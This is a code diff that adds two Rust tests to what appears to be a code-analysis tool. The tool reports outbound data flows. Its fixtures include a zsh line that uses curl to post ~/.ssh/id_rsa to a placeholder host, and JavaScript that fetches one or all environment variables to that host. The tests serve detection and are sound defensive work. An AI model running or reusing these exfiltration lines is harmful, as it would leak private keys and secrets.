@@ -446,3 +446,37 @@ fn each_gap_of_a_line_that_is_put_together_is_filled_from_its_own_place() {
         ],
     );
 }
+
+#[test]
+fn zsh_ends_a_list_of_commands_without_a_sign() {
+    tells(
+        Language::Shell,
+        "ask() {\n  for i in 1 2; do\n    test -t 0 && { print -r a; return 0 }\n  done\n  return 1\n}\n\
+         send() {\n  ask || { echo no; return 1 }\n  curl -d @$HOME/.ssh/id_rsa https://a.invalid\n}\nsend\n",
+        &["contact https://a.invalid with  [Keys]"],
+    );
+}
+
+#[test]
+fn a_variable_that_settings_name_is_one_of_the_environment() {
+    let js =
+        "const fs = require('fs'); const all = JSON.parse(fs.readFileSync('c.json', 'utf8'));\n";
+    let one = told(
+        Language::JavaScript,
+        &format!("{js}fetch('https://a.invalid', {{ body: process.env[all.name] }});"),
+    );
+    assert!(
+        !one.iter().any(|line| line.contains("Environment")),
+        "{one:#?}"
+    );
+    for each in [
+        "for (const k of Object.keys(process.env)) fetch('https://a.invalid', { body: process.env[k] });",
+        "for (const k in process.env) fetch('https://a.invalid', { body: process.env[k] });",
+    ] {
+        let told = told(Language::JavaScript, &format!("{js}{each}"));
+        assert!(
+            told.iter().any(|line| line.contains("Environment")),
+            "{told:#?}"
+        );
+    }
+}
